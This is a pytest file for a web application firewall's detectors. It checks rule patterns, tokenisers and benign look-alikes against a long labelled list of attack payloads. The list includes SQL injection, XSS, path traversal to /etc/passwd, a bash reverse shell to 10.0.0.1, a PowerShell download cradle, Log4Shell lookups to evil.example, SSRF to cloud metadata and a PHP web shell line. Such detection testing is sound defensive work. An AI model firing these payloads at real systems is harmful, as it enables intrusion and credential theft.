"""Detectors on single values: the rule table, the tokenisers, payloads and look-alikes."""

from __future__ import annotations

import pytest
import re2

from wallarm_sidecar.detect._points import (
    AREA_BODY_NAME,
    AREA_BODY_VALUE,
    AREA_COOKIE,
    AREA_FILENAME,
    AREA_HEADER,
    AREA_PATH,
    AREA_QUERY_NAME,
    AREA_QUERY_VALUE,
    AREA_RAW_BODY,
)
from wallarm_sidecar.detect.detectors import (
    AREA_USER_AGENT,
    ATTACK_TYPES,
    RULES,
    SCANNED_AREAS,
    Rule,
    ValueScanner,
    detect_log4shell,
    detect_sqli,
    detect_xss,
)

SCANNER = ValueScanner()
SIGNATURES_ONLY = ValueScanner(lib_detection=False)


def _options() -> re2.Options:
    options = re2.Options()
    options.case_sensitive = False
    return options


def _types(value: str, area: str = AREA_QUERY_VALUE, scanner: ValueScanner = SCANNER) -> set[str]:
    return {finding.attack_type for finding in scanner.scan(value, area)}


# --- the rule table -------------------------------------------------------------------


def test_rule_ids_are_unique() -> None:
    ids = [rule.id for rule in RULES]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("rule", RULES, ids=[rule.id for rule in RULES])
def test_rule_row_is_well_formed(rule: Rule) -> None:
    assert rule.attack_type in ATTACK_TYPES
    assert rule.areas, "a rule applies somewhere"
    assert rule.areas <= SCANNED_AREAS
    assert rule.id.split("-")[0] in {*ATTACK_TYPES, "mail", "ptrav", "scanner"} or (
        rule.id.startswith(rule.attack_type.split("_")[0])
    )


@pytest.mark.parametrize("rule", RULES, ids=[rule.id for rule in RULES])
def test_rule_example_matches_and_benign_does_not(rule: Rule) -> None:
    regex = re2.compile(rule.pattern, _options())
    assert regex.search(rule.example), f"{rule.id} misses its own example"
    assert not regex.search(rule.benign), f"{rule.id} fires on its benign look-alike"


@pytest.mark.parametrize("rule", RULES, ids=[rule.id for rule in RULES])
def test_scanner_reports_rule_example(rule: Rule) -> None:
    area = sorted(rule.areas)[0]
    found = SIGNATURES_ONLY.scan(rule.example, area)
    assert rule.attack_type in {f.attack_type for f in found}, found


@pytest.mark.parametrize("rule", RULES, ids=[rule.id for rule in RULES])
def test_scanner_passes_rule_benign(rule: Rule) -> None:
    for area in sorted(rule.areas):
        assert not [f for f in SCANNER.scan(rule.benign, area) if f.rule_id == rule.id]


# --- attack payloads by class ---------------------------------------------------------

ATTACKS = [
    # (id, value, area, attack type)
    ("sqli-classic-quote", "1' OR '1'='1", AREA_QUERY_VALUE, "sqli"),
    ("sqli-numeric", "1234 OR 1=1", AREA_BODY_VALUE, "sqli"),
    ("sqli-double-quote", '-1839" or "1"="2', AREA_BODY_VALUE, "sqli"),
    ("sqli-comment", "admin'--", AREA_BODY_VALUE, "sqli"),
    ("sqli-union", "1 UNION ALL SELECT NULL,NULL,version()--", AREA_QUERY_VALUE, "sqli"),
    ("sqli-union-comment", "-1/**/union/**/select/**/1,2", AREA_QUERY_VALUE, "sqli"),
    ("sqli-stacked", "1; DROP TABLE users--", AREA_QUERY_VALUE, "sqli"),
    ("sqli-time", "1' AND SLEEP(5)-- -", AREA_COOKIE, "sqli"),
    ("sqli-waitfor", "1'; WAITFOR DELAY '0:0:5'--", AREA_QUERY_VALUE, "sqli"),
    ("sqli-error", "1 and extractvalue(1,concat(0x7e,version()))", AREA_QUERY_VALUE, "sqli"),
    ("sqli-paren", "') or ('a'='a", AREA_BODY_VALUE, "sqli"),
    ("sqli-in-header", "Mozilla' or 1=1#", AREA_HEADER, "sqli"),
    ("sqli-in-name", "x' or 1=1 --", AREA_QUERY_NAME, "sqli"),
    ("sqli-logic-lead", "AND 2771=1709)", AREA_BODY_NAME, "sqli"),
    ("sqli-mysql-comment", "1 /*!50000union*/ select 1", AREA_QUERY_VALUE, "sqli"),
    ("sqli-schema", "1 and (select 1 from information_schema.tables)", AREA_QUERY_VALUE, "sqli"),
    ("xss-script", "<script>alert(1)</script>", AREA_QUERY_VALUE, "xss"),
    ("xss-img-onerror", "<img src=x onerror=alert(1)>", AREA_BODY_VALUE, "xss"),
    ("xss-svg-breakout", '"><svg/onload=alert(document.domain)>', AREA_QUERY_VALUE, "xss"),
    ("xss-attribute", 'x" onmouseover="alert(1)', AREA_QUERY_VALUE, "xss"),
    ("xss-js-url", "javascript:alert(1)", AREA_QUERY_VALUE, "xss"),
    ("xss-href", '<a href="javascript:alert(1)">x</a>', AREA_BODY_VALUE, "xss"),
    ("xss-style", '<div style="width: expression(alert(1))">', AREA_BODY_VALUE, "xss"),
    ("xss-iframe-js", "<iframe src=javascript:alert(1)></iframe>", AREA_BODY_VALUE, "xss"),
    (
        "xss-namespaced",
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">',
        AREA_BODY_VALUE,
        "xss",
    ),
    ("xss-fullwidth", "＜script＞alert(1)＜/script＞", AREA_QUERY_VALUE, "xss"),
    (
        "xss-js-string-breakout",
        "';alert(String.fromCharCode(88,83,83))//",
        AREA_QUERY_VALUE,
        "xss",
    ),
    ("ptrav-etc-passwd-path", "/etc/passwd", AREA_PATH, "ptrav"),
    ("ptrav-dotdot", "../../../../etc/shadow", AREA_QUERY_VALUE, "ptrav"),
    ("ptrav-windows", "..\\..\\windows\\win.ini", AREA_QUERY_VALUE, "ptrav"),
    ("ptrav-git", "/.git/config", AREA_PATH, "ptrav"),
    (
        "lfi-php-filter",
        "php://filter/convert.base64-encode/resource=index.php",
        AREA_QUERY_VALUE,
        "lfi",
    ),
    ("lfi-file-url", "file:///etc/hosts", AREA_QUERY_VALUE, "lfi"),
    ("rfi-ip-shell", "http://10.0.0.7/shell.txt?", AREA_QUERY_VALUE, "rfi"),
    ("rce-semicolon", ";cat /etc/passwd", AREA_QUERY_VALUE, "rce"),
    ("rce-pipe-id", "| id", AREA_QUERY_VALUE, "rce"),
    ("rce-subst", "$(whoami)", AREA_QUERY_VALUE, "rce"),
    ("rce-backticks", "`uname -a`", AREA_QUERY_VALUE, "rce"),
    ("rce-ifs", "cat${IFS}/etc/passwd", AREA_QUERY_VALUE, "rce"),
    ("rce-quote-evasion", ";w'h'o'a'm'i", AREA_QUERY_VALUE, "rce"),
    ("rce-reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", AREA_BODY_VALUE, "rce"),
    ("rce-windows", "& cmd.exe /c dir c:\\", AREA_QUERY_VALUE, "rce"),
    (
        "rce-powershell",
        "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
        AREA_BODY_VALUE,
        "rce",
    ),
    ("rce-shellshock", "() { :; }; /bin/bash -c 'id'", AREA_USER_AGENT, "rce"),
    ("rce-php-code", "<?php system($_GET['c']); ?>", AREA_BODY_VALUE, "rce"),
    ("rce-php-object", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}', AREA_COOKIE, "rce"),
    ("rce-node", "require('child_process').exec('id')", AREA_BODY_VALUE, "rce"),
    ("rce-log4shell", "${jndi:ldap://evil.example/a}", AREA_USER_AGENT, "rce"),
    (
        "rce-log4shell-nested",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        AREA_HEADER,
        "rce",
    ),
    (
        "rce-log4shell-default",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        AREA_QUERY_VALUE,
        "rce",
    ),
    (
        "rce-log4shell-env",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}",
        AREA_HEADER,
        "rce",
    ),
    ("rce-java-deser-b64", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", AREA_BODY_VALUE, "rce"),
    (
        "rce-java-deser-hex",
        "aced0005737200116a6176612e7574696c2e486173684d6170",
        AREA_BODY_VALUE,
        "rce",
    ),
    (
        "rce-spring4shell",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        AREA_BODY_NAME,
        "rce",
    ),
    (
        "rce-java-runtime",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        AREA_BODY_VALUE,
        "ssti",
    ),
    ("ssti-jinja", "{{7*7}}", AREA_QUERY_VALUE, "ssti"),
    ("ssti-jinja-walk", "{{''.__class__.__mro__[1].__subclasses__()}}", AREA_BODY_VALUE, "ssti"),
    (
        "ssti-freemarker",
        '<#assign ex="freemarker.template.utility.Execute"?new()>',
        AREA_BODY_VALUE,
        "ssti",
    ),
    ("nosqli-name", "password[$ne]", AREA_QUERY_NAME, "nosqli"),
    ("nosqli-json", '{"$ne": null}', AREA_QUERY_VALUE, "nosqli"),
    ("nosqli-where", "'; return true; var x='", AREA_BODY_VALUE, "nosqli"),
    ("ldapi", "*)(uid=*))(|(uid=*", AREA_QUERY_VALUE, "ldapi"),
    (
        "xxe",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        AREA_RAW_BODY,
        "xxe",
    ),
    ("ssrf-metadata", "http://169.254.169.254/latest/meta-data/", AREA_QUERY_VALUE, "ssrf"),
    ("ssrf-loopback", "http://127.0.0.1:6379/", AREA_QUERY_VALUE, "ssrf"),
    ("ssrf-decimal-ip", "http://2130706433/admin", AREA_QUERY_VALUE, "ssrf"),
    ("ssrf-gopher", "gopher://127.0.0.1:6379/_FLUSHALL", AREA_QUERY_VALUE, "ssrf"),
    ("crlf-set-cookie", "en\r\nSet-Cookie: session=attacker", AREA_QUERY_VALUE, "crlf"),
    ("crlf-splitting", "x\r\n\r\n<html>defaced</html>", AREA_HEADER, "crlf"),
    ("redir-backslash", "/\\evil.example/login", AREA_QUERY_VALUE, "redir"),
    ("redir-userinfo", "https://trusted.example@evil.example/", AREA_QUERY_VALUE, "redir"),
    ("mail-bcc", "me@example.com\r\nBcc: victim@example.org", AREA_BODY_VALUE, "mail_injection"),
    ("mail-smtp", "x\r\nRCPT TO:<victim@example.org>", AREA_BODY_VALUE, "mail_injection"),
    ("scanner-sqlmap", "sqlmap/1.7.2#stable (https://sqlmap.org)", AREA_USER_AGENT, "scanner"),
    (
        "scanner-nikto",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        AREA_USER_AGENT,
        "scanner",
    ),
    (
        "scanner-nuclei",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        AREA_USER_AGENT,
        "scanner",
    ),
    ("upload-php", "shell.php.jpg", AREA_FILENAME, "rce"),
    # families added for the detection bars (DESIGN.md §11)
    ("sqli-typographic-quotes", "1\u2019 OR \u20191\u2019=\u20191", AREA_BODY_VALUE, "sqli"),
    ("sqli-typographic-comment", "admin\u2018 #", AREA_COOKIE, "sqli"),
    ("sqli-padded-lines", "x' or 1=1--\n\n\n" + "padding text\n" * 8, AREA_BODY_VALUE, "sqli"),
    ("sqli-postfix-test", "x' notnull --", AREA_BODY_VALUE, "sqli"),
    ("sqli-literal-test", "'1' not regexp '2'", AREA_BODY_VALUE, "sqli"),
    ("sqli-open-compare", "' or xyz-", AREA_QUERY_VALUE, "sqli"),
    ("sqli-logic-constant-comment", "OR 1# ", AREA_BODY_VALUE, "sqli"),
    ("sqli-collate-name", 'user\'collate"utf8mb4_general_ci"--', AREA_BODY_VALUE, "sqli"),
    ("xss-us-ascii", "\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe", AREA_BODY_VALUE, "xss"),
    ("xss-entity-broken-scheme", "v&NewLine;b&Tab;script:msgbox(1)", AREA_BODY_VALUE, "xss"),
    ("xss-dialog-call", "confirm.call(null,1)", AREA_QUERY_VALUE, "xss"),
    ("xss-dialog-paren", "(alert)(1)", AREA_QUERY_VALUE, "xss"),
    ("xss-optional-call", "alert?.(document?.cookie)", AREA_QUERY_VALUE, "xss"),
    ("xss-document-index", 'document["cookie"]', AREA_QUERY_VALUE, "xss"),
    ("xss-jsfuck-spaces", "(![] [])[ ! []]", AREA_BODY_VALUE, "xss"),
    (
        "xss-handler-name-long",
        "  onwebkitplaybacktargetavailabilitychanged= ",
        AREA_QUERY_NAME,
        "xss",
    ),
    ("rce-unset-variable", "uname$u -a", AREA_COOKIE, "rce"),
    ("rce-dollar-noise-file", "x;c$_at+/et$_c/pas$_swd", AREA_QUERY_VALUE, "ptrav"),
    ("rce-decode-pipeline", "$(printf 'di' | rev)", AREA_QUERY_VALUE, "rce"),
    ("rce-hidden-command-quotes", '""p""y""t""h""o""n""3 ""x""', AREA_QUERY_VALUE, "rce"),
    ("rce-hidden-command-ticks", "p``in``g 127.0.0.1", AREA_BODY_VALUE, "rce"),
    ("rce-powershell-program", "powershell C:\\windows\\notepad.exe", AREA_BODY_VALUE, "rce"),
    ("rce-php-interpolation", "${@print(md5(1))}", AREA_BODY_VALUE, "rce"),
    ("rce-php-chr-chain", "chr(115).chr(121).chr(115)", AREA_BODY_VALUE, "rce"),
    ("rce-php-short-xml-tag", "<?xml :echo 1;", AREA_QUERY_VALUE, "rce"),
    ("rce-node-iife", "x' (function(){while(1){}}()) '", AREA_BODY_VALUE, "rce"),
    ("rce-react-flight", '{"then": "$1:__proto__:then"}', AREA_BODY_VALUE, "rce"),
    ("rce-log4shell-entity", "$&lbrace;jndi:ldap://evil.example/a}", AREA_HEADER, "rce"),
    ("rce-superglobal-name", "_SERVER[DOCUMENT_ROOT]", AREA_QUERY_NAME, "rce"),
    ("upload-jsp-dots", "a.jspx..", AREA_FILENAME, "rce"),
    ("upload-dotfile", ".bashrc", AREA_FILENAME, "rce"),
    ("ssti-statement", "<% if true %>49<% end %>", AREA_QUERY_VALUE, "ssti"),
    ("ssrf-ipv6-literal", "http://[a::b]/", AREA_QUERY_VALUE, "ssrf"),
    ("ssrf-local-file", "local_file:///etc/hosts", AREA_QUERY_VALUE, "ssrf"),
    ("ssrf-decimal-in-name", "http://2852039166/", AREA_QUERY_NAME, "ssrf"),
    ("rfi-bare-ipv6", "https://2001:db8:701:1100::29c8/gecko.php", AREA_QUERY_VALUE, "rfi"),
    ("lfi-data-php", "data:text/plain,<?php system('id');?>", AREA_QUERY_VALUE, "lfi"),
    ("ptrav-unc-share", "\\\\10.0.0.5\\admin$\\system.ini", AREA_QUERY_VALUE, "ptrav"),
    ("nosqli-or-array", "', $or: [ {}, { 'a':'a", AREA_QUERY_VALUE, "nosqli"),
    (
        "xxe-external-schema",
        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="http://a.b/ http://oob.example/a.xsd">a</a>',
        AREA_BODY_VALUE,
        "xxe",
    ),
    ("crlf-form-header", "x\r\nContent-Length: 0", AREA_BODY_VALUE, "crlf"),
    ("ptrav-overlong-dots", "%c0%ae%c0%ae%c0%afetc%c0%afpasswd", AREA_QUERY_VALUE, "ptrav"),
    ("ptrav-encoded-dots", "%2e%2e%2f%2e%2e%2fapp.ini", AREA_COOKIE, "ptrav"),
    ("sqli-glued-keyword", "SELECT\\NFROM`users`", AREA_QUERY_VALUE, "sqli"),
    ("sqli-glued-union", "1union select 1,2", AREA_QUERY_VALUE, "sqli"),
    (
        "content-type-confusion",
        'application/x-www-form-urlencoded; charset="text/xml"',
        AREA_HEADER,
        "scanner",
    ),
]


@pytest.mark.parametrize(
    ("value", "area", "attack_type"), [a[1:] for a in ATTACKS], ids=[a[0] for a in ATTACKS]
)
def test_attack_payload_is_found(value: str, area: str, attack_type: str) -> None:
    assert attack_type in _types(value, area)


# --- legitimate look-alikes -----------------------------------------------------------

BENIGN = [
    (
        "prose-select-drop",
        "select the best option from the list, or drop us a line",
        AREA_BODY_VALUE,
    ),
    ("prose-union", "Union Pacific railroad history", AREA_QUERY_VALUE),
    ("prose-apostrophes", "O'Reilly & Sons: rock 'n' roll, isn't it?", AREA_QUERY_VALUE),
    ("prose-or-and", "Tom and Jerry or Mickey; 1 or 2 items", AREA_BODY_VALUE),
    ("prose-quote", 'He said "yes" and then "no" -- twice', AREA_BODY_VALUE),
    ("prose-sleep", "I need to sleep (at least 8 hours)", AREA_BODY_VALUE),
    ("prose-cat", "my cat & dog; they like to sleep", AREA_BODY_VALUE),
    ("prose-delete", "Please delete from my cart the blue mug", AREA_BODY_VALUE),
    ("prose-order", "order by phone, group by region", AREA_QUERY_VALUE),
    ("search-passwd", "forgot passwd", AREA_QUERY_VALUE),
    ("email", "jane.doe+shop@example.co.uk", AREA_BODY_VALUE),
    ("date", "2024-05-01T10:20:30Z", AREA_QUERY_VALUE),
    ("uuid", "3bc85494-dede-46eb-941c-3bdbc9ce26b0", AREA_HEADER),
    ("random-token", "VhzCikz9NRG-35WOG2BvMOCRZS5kQ2uK", AREA_QUERY_VALUE),
    ("jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl", AREA_HEADER),
    ("file-path", "docs/readme.md", AREA_QUERY_VALUE),
    ("relative-image", "images/products/1234/front@2x.webp", AREA_BODY_VALUE),
    ("url", "https://shop.example.com/products?id=42&sort=price", AREA_QUERY_VALUE),
    ("oauth-callback", "http://localhost:3000/api/auth/callback/github", AREA_QUERY_VALUE),
    (
        "cms-html",
        '<p>Hello <a href="https://example.com">our shop</a> <b>now</b></p>',
        AREA_BODY_VALUE,
    ),
    (
        "cms-image",
        '<img src="https://cdn.example.com/a.png" alt="A mug" width="300">',
        AREA_BODY_VALUE,
    ),
    (
        "cms-youtube",
        '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" '
        'height="315" allowfullscreen></iframe>',
        AREA_BODY_VALUE,
    ),
    (
        "markdown",
        "# Title\n\n- item one\n- item *two*\n\n[link](https://example.com)",
        AREA_BODY_VALUE,
    ),
    ("math", "a < b and c > d, so 3 > 2", AREA_BODY_VALUE),
    ("json-text", '{"name": "Bob", "tags": ["a", "b"], "n": 3}', AREA_BODY_VALUE),
    ("code-python", "for i in range(10):\n    print(i)\n    total += i\n", AREA_BODY_VALUE),
    (
        "code-sql-snippet",
        "SELECT id, email\nFROM users\nWHERE created_at > now() - interval '1 day'\nORDER BY id;",
        AREA_BODY_VALUE,
    ),
    (
        "code-shell-note",
        "Remember: the shell command is `ls -la ~/Downloads` on macOS.",
        AREA_BODY_VALUE,
    ),
    (
        "user-agent-chrome",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
        "like Gecko) Chrome/124.0.0.0 Safari/537.36",
        AREA_USER_AGENT,
    ),
    ("user-agent-curl", "curl/8.5.0", AREA_USER_AGENT),
    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", AREA_HEADER),
    ("etag", 'W/"38c5b619b4eea32e"', AREA_HEADER),
    ("accept-language", "en-US,en;q=0.9,fr;q=0.8", AREA_HEADER),
    ("unicode", "Ünïcödé — “quotes” ‘single’ 日本語のテキスト", AREA_BODY_VALUE),
    ("price", "$5 (approx.) or €4.50", AREA_BODY_VALUE),
    ("template-name", "Hello {{ user.name }}!", AREA_BODY_VALUE),
    ("shell-word-alone", "bash", AREA_BODY_VALUE),
    ("mongo-style-filter", '{"age": {"$gte": 21}}', AREA_QUERY_VALUE),
    ("windows-path", "C:\\Users\\jane\\Documents\\report.docx", AREA_FILENAME),
    ("filename", "holiday photo (1).jpg", AREA_FILENAME),
    ("path-php", "/index.php", AREA_PATH),
    ("java-prose", "I like java. It runs everywhere.", AREA_BODY_VALUE),
    ("route-pattern", "/[lang]/docs/[...slug]", AREA_BODY_VALUE),
    ("log-glob", "rotate /tmp/*.log nightly", AREA_BODY_VALUE),
    ("prose-if-equals", "if a == b then we are done", AREA_BODY_VALUE),
    ("prose-parenthesis", "date (optional)", AREA_QUERY_VALUE),
    ("prose-semicolon", "; and then select one", AREA_BODY_VALUE),
    ("prose-sleep-quote", "she said 'sleep early' (again)", AREA_BODY_VALUE),
    ("python-loop", "while True: pass", AREA_BODY_VALUE),
    ("html-entity-lead", "&amp; more", AREA_BODY_VALUE),
    ("ruby-lambda", "items.map ->(i) { i * 2 }", AREA_BODY_VALUE),
    ("jsonpath", "$[0].name", AREA_QUERY_VALUE),
    ("emoticon", "so mad >( today", AREA_BODY_VALUE),
    ("django-filter", "price__gte", AREA_QUERY_NAME),
    ("spa-session-param", "session_length", AREA_QUERY_NAME),
    ("chef-name", "chef Gordon Ramsay", AREA_BODY_VALUE),
    ("quoted-union", '"Union Square" station', AREA_QUERY_VALUE),
    ("two-lines-paren", "Delivery note\n(leave at the door)", AREA_BODY_VALUE),
    ("snake-case-word", "first_name_field", AREA_BODY_VALUE),
    ("prose-create-table", "create table of contents", AREA_BODY_VALUE),
    ("prose-values", "our values (honesty, care)", AREA_BODY_VALUE),
    ("prose-select-if", "select if you like", AREA_BODY_VALUE),
    ("markdown-row-id", "| id | name |", AREA_BODY_VALUE),
    ("markdown-row-date", "| date | amount |", AREA_BODY_VALUE),
    ("markdown-row-top", "| top | sellers |", AREA_BODY_VALUE),
    ("book-title", "JavaScript: The Good Parts", AREA_QUERY_VALUE),
    ("book-title-lower", "learn javascript: closures and scope", AREA_QUERY_VALUE),
    ("data-url-image", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE=", AREA_BODY_VALUE),
    ("data-url-text", "data:text/plain;base64,SSBsb3ZlIFBIUAo=", AREA_BODY_VALUE),
    ("trailing-dotdot-path", "/docs/..", AREA_PATH),
    ("php-word-with-bracket", "gethostbyname(", AREA_BODY_NAME),
    ("empty-header-line", "\n\rlocation:\n\r", AREA_QUERY_VALUE),
    ("fraction-pair", "\xbc cup sugar and \xbe cup flour (\xbc/\xbe)", AREA_BODY_VALUE),
    (
        "prose-smart-apostrophe",
        "It\u2019s Tom\u2019s and Jerry\u2019s; that\u2019s all",
        AREA_BODY_VALUE,
    ),
    ("prose-arrow", "step 1 --> step 2", AREA_BODY_VALUE),
    ("collate-unknown", "user'collate foo--", AREA_BODY_VALUE),
    (
        "mtom-content-type",
        'multipart/related; type="application/xop+xml"; start-info="text/xml"',
        AREA_HEADER,
    ),
    ("soap-content-type", 'application/soap+xml; charset=utf-8; action="urn:x"', AREA_HEADER),
    ("medium-profile-url", "https://medium.com/@user/post-1", AREA_QUERY_VALUE),
    ("dollar-amount", "US$5 and AU$10 each", AREA_BODY_VALUE),
    ("jinja-mention", "use {% raw %} in templates", AREA_BODY_VALUE),
    ("ldap-filter-value", "(&(objectCategory=group)(cn=admins))", AREA_BODY_VALUE),
    ("minified-js", '"use strict";(function(){var a=!0;window.x=a})();', AREA_BODY_VALUE),
    ("mongo-or-filter", '{"$or": [{"status": "new"}, {"owner": "me"}]}', AREA_QUERY_VALUE),
    (
        "b2b-xml-no-schema",
        '<Invoice xmlns="urn:oasis:names"><ID>42</ID></Invoice>',
        AREA_BODY_VALUE,
    ),
    ("percent-text", "50%2e5 is not a number", AREA_QUERY_VALUE),
    ("quoted-command-name", '"curl" examples for beginners', AREA_QUERY_VALUE),
    ("command-word-then-apostrophe", "nc isn't working since monday", AREA_BODY_VALUE),
    ("contraction-command-word", "I'd like to select a different slot", AREA_BODY_VALUE),
    ("rst-literal", "``pip`` will typically get a wheel", AREA_BODY_VALUE),
    ("unc-public-share", "\\\\fileserver\\public\\q3.xlsx", AREA_QUERY_VALUE),
    (
        "pom-schema-document",
        '<project xmlns="http://maven.apache.org/POM/4.0.0"\n  xmlns:xsi="http://www.w3.org/'
        '2001/XMLSchema-instance"\n  xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 '
        'http://maven.apache.org/xsd/maven-4.0.0.xsd">\n</project>',
        AREA_BODY_VALUE,
    ),
    (
        "sql-doc-with-union",
        "SELECT region, SUM(amount) FROM sales GROUP BY region\nUNION ALL\n"
        "SELECT 'total', SUM(amount) FROM sales;",
        AREA_BODY_VALUE,
    ),
]


@pytest.mark.parametrize(("value", "area"), [b[1:] for b in BENIGN], ids=[b[0] for b in BENIGN])
def test_benign_look_alike_passes(value: str, area: str) -> None:
    assert SCANNER.scan(value, area) == []


# --- the tokenising detectors ---------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("1' OR '1'='1", "tautology"),
        ("1 union select 1,2,3", "union"),
        ("1; drop table users--", "stacked"),
        ("admin'--", "comment"),
        ("x' and sleep(5)", "logic-function"),
        ("1) or (1=1", "compare"),
        ("1 order by 3--", "order-by"),
        ("' or 1=1#", "tautology"),
        ("select * from users where id=1 union select pass from admins", "union"),
        ("z'or email notnull--", "comment-terminated"),
        ("x' mod id--", "comment-terminated"),
        ("'or(glob 1)--", "comment-terminated"),
        ("id'not like id--", "comment-terminated"),
        ("x' and password glob password;", "comment-terminated"),
        ("x' notnull --", "postfix-test"),
        ("'x'!='y", "literal-test"),
        ("' or abc!", "compare-open"),
        ("OR 1# ", "logic-lead"),
        ("admin'-- -", "comment"),
        ("admin'#\nx", "comment"),
        ("admin'--+", "comment"),
    ],
    ids=lambda v: str(v)[:24],
)
def test_sqli_tokenizer_reasons(value: str, reason: str) -> None:
    found = detect_sqli(value)
    assert found is not None
    assert found.reason == reason


@pytest.mark.parametrize(
    "value",
    [
        "select the best option from the list, or drop us a line",
        "I said 'yes' or 'no'",
        "rock 'n' roll",
        "Don't update me, delete from cart please",
        "CREATE INDEX idx ON orders (customer_id);",
        "the 'select' button",
        "5 items or more",
        "Tom's or Jerry's -- both fine",
        "it's or nothing -- really",
        "It's and so on;",
        "the 'best' and brightest;",
        "'hello' said she",
        "customers' or suppliers' names",
        "user'collate foo--",
        "or 2 apples",
        '* Configure with "--disable-root-environ" to disallow it',
        "Assign short name '-q' to options '--quiet' and '--silent'.",
        "2017/05/24: fix #60 : invalid state in parse_char_class()",
        'Fixed sed error using "#" instead of a comma',
        "Return NULL instead of '--' and 'N/A'",
        "2018/03/19: ONIGENC_CTYPE_XXX to be enum (Issue #33)",
    ],
)
def test_sqli_tokenizer_passes_prose(value: str) -> None:
    assert detect_sqli(value) is None


@pytest.mark.parametrize(
    "value",
    [
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        '<a href=" javascript:alert(1)">',
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        "<object data=x>",
        "x' onfocus='alert(1)' autofocus='",
    ],
)
def test_xss_tokenizer_finds_scriptable_html(value: str) -> None:
    assert detect_xss(value) is not None


@pytest.mark.parametrize(
    "value",
    [
        '<p class="intro">Hello <em>world</em></p>',
        '<a href="https://example.com/a?b=1&amp;c=2">link</a>',
        '<img src="/media/a.png" alt="on sale">',
        "if (a < b && c > d) { return; }",
        "<3 love it",
    ],
)
def test_xss_tokenizer_passes_plain_html(value: str) -> None:
    assert detect_xss(value) is None


@pytest.mark.parametrize(
    "value",
    [
        "${jndi:ldap://x.example/a}",
        "${${lower:j}${upper:n}di:dns://x.example}",
        "${${::-j}ndi:rmi://x.example/a}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}",
    ],
)
def test_log4shell_lookups_are_resolved(value: str) -> None:
    assert detect_log4shell(value) is not None


@pytest.mark.parametrize("value", ["${HOME}/bin", "Total: ${price}", "${a:-default}"])
def test_log4shell_passes_shell_variables(value: str) -> None:
    assert detect_log4shell(value) is None


def test_signatures_only_scanner_skips_tokenizers() -> None:
    # the leading boolean test is a shape only the SQL tokenizer knows
    assert "sqli" in _types("AND 2771=1709)", AREA_BODY_NAME)
    assert "sqli" not in _types("AND 2771=1709)", AREA_BODY_NAME, SIGNATURES_ONLY)


def test_fragment_is_bounded() -> None:
    value = "<script>" + "a" * 5000
    for finding in SCANNER.scan(value, AREA_BODY_VALUE):
        assert len(finding.fragment) <= 200


def test_every_area_has_a_matcher() -> None:
    for area in SCANNED_AREAS:
        assert SCANNER.scan("hello world", area) == []


def test_documents_keep_every_line_for_html_and_first_line_for_sql() -> None:
    tokenizers_only = ValueScanner(rules=())
    html = "A long post about our shop\nwith a second line of text\nand <svg onload=alert(1)>"
    assert {f.rule_id for f in tokenizers_only.scan(html, AREA_BODY_VALUE)} == {"xss-tokens"}
    padded = "x' or 1=1--\n" + "padding line of ordinary text\n" * 4
    assert {f.rule_id for f in tokenizers_only.scan(padded, AREA_BODY_VALUE)} == {"sqli-tokens"}
    later = "A long post about our shop\nwith a second line of text\nx' or 1=1--\n"
    assert tokenizers_only.scan(later, AREA_BODY_VALUE) == []
